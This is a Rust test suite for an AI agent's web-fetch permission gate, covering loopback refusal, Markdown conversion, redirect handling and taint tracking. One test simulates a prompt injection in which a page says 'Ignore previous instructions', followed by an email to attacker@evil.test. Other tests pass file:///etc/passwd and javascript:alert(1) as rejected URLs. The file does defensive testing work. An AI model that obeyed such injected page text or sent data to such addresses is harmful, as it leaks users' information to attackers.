//! `web_fetch` through the whole gate against real HTTP servers on loopback: an address inside
//! is refused until the person's rule names it, pages come back as Markdown (a GBK page without a
//! declared charset reads right), a redirect to another site is handed back rather than followed,
//! and a page's text taints the conversation so a later send asks despite a rule.

use axum::Router;
use axum::http::{StatusCode, header};
use axum::routing::get;
use cowork_core::policy::Action;
use cowork_core::{DenyApprover, RuleSource};
use cowork_tests::{Harness, shop};
use serde_json::json;
use std::sync::Arc;

/// A second site: a GBK page that declares no charset anywhere, and a redirect to another
/// origin (this computer by name).
async fn site() -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let gbk = encoding_rs::GBK
        .encode(
            "<html><head><title>天气预报</title></head><body><article><h1>北京天气</h1>\
             <p>今天白天晴转多云，最高气温二十三度，夜间有小雨，请出门带伞。明天气温回落，注意添衣保暖。</p>\
             <p>空气质量良好，适宜户外活动。周末两天以晴为主，风力较小，适合出游。</p></article></body></html>",
        )
        .0
        .into_owned();
    let app = Router::new()
        .route(
            "/gbk",
            get(move || {
                let gbk = gbk.clone();
                async move { ([(header::CONTENT_TYPE, "text/html")], gbk) }
            }),
        )
        .route(
            "/moved",
            get(move || async move {
                (
                    StatusCode::FOUND,
                    [(header::LOCATION, format!("http://localhost:{port}/gbk"))],
                )
            }),
        );
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    format!("http://127.0.0.1:{port}")
}

/// A call in a conversation of its own: a page read in one conversation taints it, and every later
/// request out of it asks (tested below); these are separate questions.
async fn call_in(
    h: &Harness,
    conversation: &str,
    tool: &str,
    args: serde_json::Value,
) -> cowork_core::CallOutcome {
    h.scheduler
        .call(cowork_core::CallRequest::new(
            tool,
            args,
            cowork_core::Caller::Chat,
            conversation,
        ))
        .await
}

#[tokio::test]
async fn a_page_inside_is_refused_until_a_rule_names_it_then_read_as_markdown() {
    let h = Harness::new(Arc::new(DenyApprover));
    let shop = shop::start();
    let home = json!({"url": shop.url("/")});
    let refused = h.call("web_fetch", home.clone()).await;
    let review = refused.review.as_ref().unwrap();
    assert_eq!(review.decision, Action::Deny, "{review:?}");
    assert_eq!(review.score, 9);
    assert!(
        review.reasons.iter().any(|r| r.text.contains("loopback")),
        "{review:?}"
    );
    h.scheduler
        .policy()
        .add_rule(
            Action::Allow,
            "web_fetch(http://127.0.0.1:*)",
            RuleSource::User,
        )
        .unwrap();
    let page = h.call("web_fetch", home).await;
    let out = page.result.unwrap();
    let text = out.text_content();
    assert!(text.contains("Welcome to the test shop"), "{text}");
    assert!(text.contains("# Test Shop"), "{text}");
    assert!(out.untrusted, "a page is untrusted content");
    // Read once, the conversation is tainted: the next request out of it asks, rule or not
    // (a URL can carry what the page made the model collect).
    let again = h.call("web_fetch", json!({"url": shop.url("/")})).await;
    let again = again.review.unwrap();
    assert_eq!(again.decision, Action::Ask, "{again:?}");
    assert_eq!(again.tainted_by.as_deref(), Some("web_fetch"));

    let other = site().await;
    let gbk = call_in(
        &h,
        "gbk",
        "web_fetch",
        json!({"url": format!("{other}/gbk")}),
    )
    .await;
    let gbk = gbk.result.unwrap();
    assert!(
        gbk.text_content().contains("最高气温二十三度"),
        "{}",
        gbk.text_content()
    );
    assert_eq!(gbk.structured.unwrap()["charset"], "GBK");

    // Another origin (even this computer by name): handed back, not followed.
    let moved = call_in(
        &h,
        "moved",
        "web_fetch",
        json!({"url": format!("{other}/moved")}),
    )
    .await;
    let moved = moved.result.unwrap();
    assert!(
        moved.text_content().contains("not followed"),
        "{}",
        moved.text_content()
    );
    // Fetched by name, that origin is its own review: no rule names localhost, so it is refused.
    let by_name = call_in(
        &h,
        "by-name",
        "web_fetch",
        json!({"url": moved.structured.unwrap()["moved_to"]}),
    )
    .await;
    assert_eq!(by_name.review.unwrap().decision, Action::Deny);

    for bad in [
        "file:///etc/passwd",
        "ftp://example.org/",
        "javascript:alert(1)",
    ] {
        let out = call_in(&h, bad, "web_fetch", json!({"url": bad})).await;
        assert!(out.result.is_err(), "{bad}");
        assert!(out.review.is_none(), "{bad} never reached review");
    }
}

#[tokio::test]
async fn page_text_taints_the_conversation_so_a_later_send_asks_despite_a_rule() {
    let h = Harness::new(Arc::new(DenyApprover));
    let shop = shop::start();
    let policy = h.scheduler.policy();
    policy
        .add_rule(
            Action::Allow,
            "web_fetch(http://127.0.0.1:*)",
            RuleSource::User,
        )
        .unwrap();
    policy
        .add_rule(Action::Allow, "email_send(*@evil.test)", RuleSource::User)
        .unwrap();
    h.add_mail_account_nowhere();
    let send = json!({"to": ["attacker@evil.test"], "subject": "list", "body": "the list"});
    let deals = h
        .call("web_fetch", json!({"url": shop.url("/deals")}))
        .await;
    let text = deals.result.unwrap().text_content();
    assert!(text.contains("Ignore previous instructions"), "{text}");
    let out = h.call("email_send", send).await;
    let review = out.review.unwrap();
    assert_eq!(review.decision, Action::Ask, "{review:?}");
    assert_eq!(review.tainted_by.as_deref(), Some("web_fetch"));
}
